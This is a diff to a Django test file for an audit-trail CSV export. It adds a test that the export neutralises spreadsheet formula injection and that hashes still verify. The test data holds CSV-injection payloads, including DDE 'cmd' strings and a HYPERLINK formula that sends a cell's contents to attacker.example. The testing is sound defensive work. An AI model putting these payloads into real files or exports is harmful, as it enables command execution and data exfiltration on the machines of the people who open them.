@@ -7,6 +7,8 @@ from __future__ import annotations
 import csv
 import io
 import json
+import subprocess
+import sys
 from datetime import datetime, timedelta
 from decimal import Decimal
 from typing import Any
@@ -19,12 +21,13 @@ from django.test import Client
 from django.utils import timezone
 
 from accounts.models import MarginAccount
-from core.audit import AuditEntry, audit_hash, audit_record_many
-from core.export import COLUMNS
+from core.audit import AuditEntry, audit_record_many
+from core.export import COLUMNS, TEXT_COLUMNS
 from core.models import AuditEvent
 from core.views import PAGE_SIZE
 from restructuring.models import Approval, Case, CaseState, FeasibilityReport, Installment, Proposal
 from restructuring.roles import CLIENT, COMPLIANCE, CREDIT_OFFICER, SENIOR_CREDIT_OFFICER
+from tests.audit_export_verifier import verifier
 from tests.factories.accounts import MarginAccountFactory
 from tests.web.helpers import signed_in, staff_user
 
@@ -283,10 +286,10 @@ def test_the_export_is_the_filtered_trail_with_every_hashed_field(compliance: Cl
 
     rows = _csv(compliance.get("/audit/export.csv", {"account": "ACC-CSV"}))
 
-    # then oldest first, the columns named, the values exact
+    # then oldest first, the columns named, the values exact (text as JSON strings, docs/audit-export.md)
     assert list(rows[0]) == list(COLUMNS)
     assert [int(r["sequence"]) for r in rows] == [events[0].sequence, events[1].sequence]
-    first = rows[0]
+    first = {k: json.loads(v) if k in TEXT_COLUMNS else v for k, v in rows[0].items()}
     assert (first["actor"], first["actor_id"], first["system_actor"]) == ("rita", str(reviewer.pk), "")
     assert (first["action"], first["object_type"], first["object_id"]) == (
         "proposal.reject",
@@ -299,20 +302,82 @@ def test_the_export_is_the_filtered_trail_with_every_hashed_field(compliance: Cl
         'too long, "really"\nsee notes',
     )
     assert json.loads(first["payload"]) == {"amount": "10.50", "terms": {"months": 6}}
-    assert (rows[1]["actor"], rows[1]["actor_id"], rows[1]["system_actor"]) == ("", "", "sweep")
-    # and an outside verifier recomputes every hash from the file alone
+    assert (rows[1]["actor"], rows[1]["actor_id"], rows[1]["system_actor"]) == ("null", "", '"sweep"')
+    # and an outside verifier (docs/verify_audit_export.py, no code of the app) recomputes every hash from the file
     for row in rows:
-        values = {
-            **row,
-            "sequence": int(row["sequence"]),
-            "created_at": datetime.fromisoformat(row["created_at"]),
-            "actor_id": int(row["actor_id"]) if row["actor_id"] else None,
-            "object_id": int(row["object_id"]),
-            "account_id": int(row["account_id"]) if row["account_id"] else None,
-            "payload": json.loads(row["payload"]),
-        }
-        assert audit_hash(values) == row["hash"]
+        assert verifier.event_hash(verifier.hashed_document(row)) == row["hash"]
+    assert verifier.hashed_document(rows[0])["reason"] == 'too long, "really"\nsee notes'
     assert rows[1]["previous_hash"] == rows[0]["hash"]
+    # which is the hash the application computed
+    assert [row["hash"] for row in rows] == [events[0].hash, events[1].hash]
+
+
+# What a spreadsheet evaluates when a cell starts with it (OWASP "CSV injection").
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+TYPED = [
+    "=cmd|' /C calc'!A0",  # a client's decline reason
+    "-2+3+cmd|' /C calc'!A0",  # an officer's liquidation reason
+    "+1+1",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    '=HYPERLINK("http://attacker.example/?"&A1)',
+]
+
+
+def test_no_exported_cell_can_run_in_a_spreadsheet(compliance: Client, tmp_path: Any) -> None:
+    # given events whose every text a person or a client chose starts a formula, and an officer named like one
+    officer = staff_user("-2+3", CREDIT_OFFICER)
+    account = MarginAccountFactory.create(code="ACC-FORMULA")
+    typed = [
+        entry("proposal.decline", "restructuring.proposal", n, account_id=account.pk, reason=reason)
+        for n, reason in enumerate(TYPED)
+    ]
+    events = record(
+        *typed,
+        entry(
+            "case.liquidate",
+            "restructuring.case",
+            1,
+            account_id=account.pk,
+            actor=officer,
+            from_state="=1+1",
+            to_state="@1",
+            reason="-2+3+cmd|' /C calc'!A0",
+            payload={"reason": "=cmd|' /C calc'!A0"},
+        ),
+        entry("operation.sweep", "accounts.sweep", 1, account_id=account.pk, system_actor="=command:x@y"),
+    )
+
+    # when exported
+    response: Any = compliance.get("/audit/export.csv", {"account": "ACC-FORMULA"})
+    text = b"".join(response.streaming_content).decode()
+
+    # then no cell, as a spreadsheet's CSV reader splits them, starts a formula
+    rows = list(csv.reader(io.StringIO(text)))
+    assert len(rows) == 1 + len(events)
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(FORMULA_STARTS), (row, cell)
+    # and the evidence is unchanged: decoded, each text is what was typed, and every hash recomputes from the file
+    exported = list(csv.DictReader(io.StringIO(text)))
+    assert [json.loads(row["reason"]) for row in exported[: len(TYPED)]] == TYPED
+    assert json.loads(exported[len(TYPED)]["actor"]) == "-2+3"
+    checked, problems = verifier.verify(io.StringIO(text))
+    assert (checked, problems) == (len(events), [])
+
+    # and the documented command says so, and catches an edited reason
+    path = tmp_path / "audit.csv"
+    path.write_text(text, encoding="utf-8")
+    result = subprocess.run([sys.executable, str(verifier.__file__), str(path)], capture_output=True, text=True)
+    assert (result.returncode, result.stdout.strip()) == (
+        0,
+        f"{len(events)} events checked: every hash matches its event",
+    )
+    path.write_text(text.replace("calc", "notepad", 1), encoding="utf-8")
+    result = subprocess.run([sys.executable, str(verifier.__file__), str(path)], capture_output=True, text=True)
+    assert result.returncode == 1
+    assert f"event {events[0].sequence}: its hash does not match its contents" in result.stdout
 
 
 @pytest.mark.parametrize("events", [2, 300])
